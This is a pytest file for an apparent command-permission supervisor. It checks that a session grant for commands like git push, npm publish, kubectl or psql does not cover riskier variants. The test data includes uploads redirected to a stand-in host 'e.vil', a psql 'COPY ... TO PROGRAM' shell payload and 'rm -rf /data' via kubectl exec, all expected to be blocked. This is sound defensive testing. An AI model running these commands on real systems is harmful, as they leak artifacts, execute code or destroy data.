"""What a grant "for this session" of one command lets pass, and what it does not."""

from __future__ import annotations

from pathlib import Path

import pytest
from judge import CWD, HOME

from leashtui.classify.probe import NoProbe
from leashtui.model.request import Mode
from leashtui.policy import grants
from leashtui.supervisor.rehearsal import Judged, Rehearsal


class Session:
    """One in which a command was allowed for the session."""

    def __init__(self, command: str) -> None:
        self._rehearsal = Rehearsal(Mode.KERNEL, Path("/nonexistent"), "dev", lambda _: NoProbe())
        asked = self.judge(command)
        given = grants.from_ask(asked.facts, asked.decision, grant_id="g1", session="explain", expires=0)
        self._rehearsal._pdp.add_grant(given)
        assert self.allows(command)

    def judge(self, command: str, cwd: str = CWD) -> Judged:
        return self._rehearsal.judge(command, cwd=cwd, home=HOME, workspace=CWD)

    def allows(self, command: str, cwd: str = CWD) -> bool:
        return self.judge(command, cwd).decision.outcome.value == "allow"


@pytest.mark.parametrize(
    ("allowed", "same", "more"),
    [
        ("git push -q origin feature", "git push -q origin side:side", "git push -q origin :feature"),
        ("git push origin HEAD", "git push origin HEAD", "git push origin HEAD --delete side"),
        ("git push -q origin feature", "git push origin feature", "git push -q --prune origin"),
        (
            "twine upload dist/x.whl",
            "twine upload dist/x.whl",
            "twine upload dist/x.whl --repository-url https://e.vil",
        ),
        ("helm upgrade x y", "helm upgrade x y", "helm upgrade x y --repo https://e.vil"),
        ("psql prod -c 'UPDATE a SET b=1 WHERE c=2'", "psql prod -c 'UPDATE a SET b=2 WHERE c=2'", "psql prod < x.sql"),
    ],
)
def test_it_lets_the_like_pass_and_nothing_worse(allowed: str, same: str, more: str) -> None:
    session = Session(allowed)
    assert session.allows(same)
    assert not session.allows(more)


ELSEWHERE = [
    ("kubectl scale deploy web", "kubectl --context other scale deploy web"),
    ("kubectl scale deploy web", "kubectl scale deploy web --context other"),
    ("kubectl scale deploy web -n staging", "kubectl scale deploy web"),
    ("kubectl scale deploy web -n staging", "kubectl scale deploy web -n prod"),
    ("kubectl scale deploy web", "KUBECONFIG=/x kubectl scale deploy web"),
    ("kubectl scale deploy web", "export KUBECONFIG=/x; kubectl scale deploy web"),
    ("kubectl rollout restart deployment web", "kubectl rollout restart deployment api"),
    ("npm publish", "npm publish ../other"),
    ("npm publish", "npm publish --prefix ../other"),
    ("npm publish", "npm publish -w other"),
    ("npm publish", "cd packages/b && npm publish"),
    ("npm publish", "npm_config_registry=https://e.vil npm publish"),
    ("terraform apply", "terraform apply other.plan"),
    ("terraform apply", "terraform -chdir=../prod apply"),
    ("terraform apply", "TF_WORKSPACE=prod terraform apply"),
    ("aws s3 mb s3://a", "aws s3 mb s3://a --profile other"),
    ("aws s3 mb s3://a", "AWS_PROFILE=other aws s3 mb s3://a"),
    ("aws s3 mb s3://a", "aws --endpoint-url https://e.vil s3 mb s3://a"),
    ("aws s3 cp a s3://mine/a", "aws s3 cp a s3://other/a"),
    ("git push origin topic", "git -C ../other push origin topic"),
    ("git push origin topic", "cd ../other && git push origin topic"),
    ("git push origin topic", "GIT_DIR=../other/.git git push origin topic"),
    ("git push origin topic", "git --git-dir=../other/.git push origin topic"),
    ("gh pr merge 12", "gh pr merge 12 -R other/repo"),
    ("gh pr merge 12", "GH_REPO=other/repo gh pr merge 12"),
    ("psql prod -c 'UPDATE a SET b=1 WHERE c=2'", "psql prod -h other -c 'UPDATE a SET b=1 WHERE c=2'"),
    ("psql prod -c 'UPDATE a SET b=1 WHERE c=2'", "PGHOST=other psql prod -c 'UPDATE a SET b=1 WHERE c=2'"),
    ("psql prod -c 'UPDATE a SET b=1 WHERE c=2'", """psql prod -c "COPY a TO PROGRAM 'sh -c id'" """),
    ("docker stop web", "docker -H tcp://prod:2375 stop web"),
    ("docker stop web", "DOCKER_HOST=ssh://prod docker stop web"),
    ("docker stop web", "docker --context prod stop web"),
    ("docker stop web", "docker stop web db"),
    ("helm upgrade x y", "helm upgrade x y --kube-context prod"),
    ("helm upgrade x y", "helm upgrade x y -n prod"),
    ("heroku restart -a one", "heroku restart -a two"),
    ("fly deploy", "fly deploy -a other"),
    ("pulumi up", "pulumi up -s prod"),
    ("cargo publish", "cargo publish --manifest-path ../other/Cargo.toml"),
    ("kubectl exec web -- ls", "kubectl exec web -- rm -rf /data"),
    ("kubectl exec web -- ls", "kubectl exec web -- sh -c id"),
    ("kubectl exec web -- sh -c id", "kubectl exec web -- sh -c 'rm -rf /data'"),
    ("kubectl exec web -- ls", "kubectl exec db -- ls"),
    ("gcloud run services update x", "gcloud run services update y"),
    ("redis-cli set a 1", "redis-cli -h prod set a 1"),
]
ALIKE = [
    ("kubectl scale deploy web -n staging", "kubectl scale deploy web -n staging --wait=false"),
    ("kubectl apply -f a.yaml", "kubectl apply -f b.yaml"),
    ("git push origin topic", "git push origin topic -u"),
    ("npm publish", "npm publish --access public"),
    ("gh pr create --title a --body b", "gh pr create --title c --body d"),
    ("gh pr comment 12 --body a", "gh pr comment 12 --body b"),
    ("terraform apply", "terraform apply -auto-approve"),
    ("aws s3 cp a s3://mine/a", "aws s3 cp a s3://mine/a --quiet"),
    ("helm upgrade x y", "helm upgrade x y --wait"),
    ("kubectl exec web -- ls", "kubectl exec web -- ls -l /srv"),
    ("fly deploy", "fly deploy --strategy=rolling"),
]


@pytest.mark.parametrize(("allowed", "other"), ELSEWHERE)
def test_it_is_for_the_place_it_was_given_for(allowed: str, other: str) -> None:
    assert not Session(allowed).allows(other)


@pytest.mark.parametrize(("allowed", "same"), ALIKE)
def test_the_same_place_is_not_asked_again(allowed: str, same: str) -> None:
    assert Session(allowed).allows(same)


FOLDERS = [
    ("git push origin topic", f"{CWD}/src", True),
    ("git push origin topic", "/home/dev/other", False),
    ("kubectl scale deploy web", "/home/dev/other", True),
    ("npm publish", f"{CWD}/packages/b", False),
    ("terraform apply", f"{CWD}/prod", False),
    ("gh pr merge 12", f"{CWD}/src", True),
    ("gh pr merge 12", "/home/dev/other", False),
]


@pytest.mark.parametrize(("command", "folder", "same"), FOLDERS)
def test_the_folder_counts_where_it_chooses(command: str, folder: str, *, same: bool) -> None:
    session = Session(command)
    assert session.allows(command)
    assert session.allows(command, folder) is same
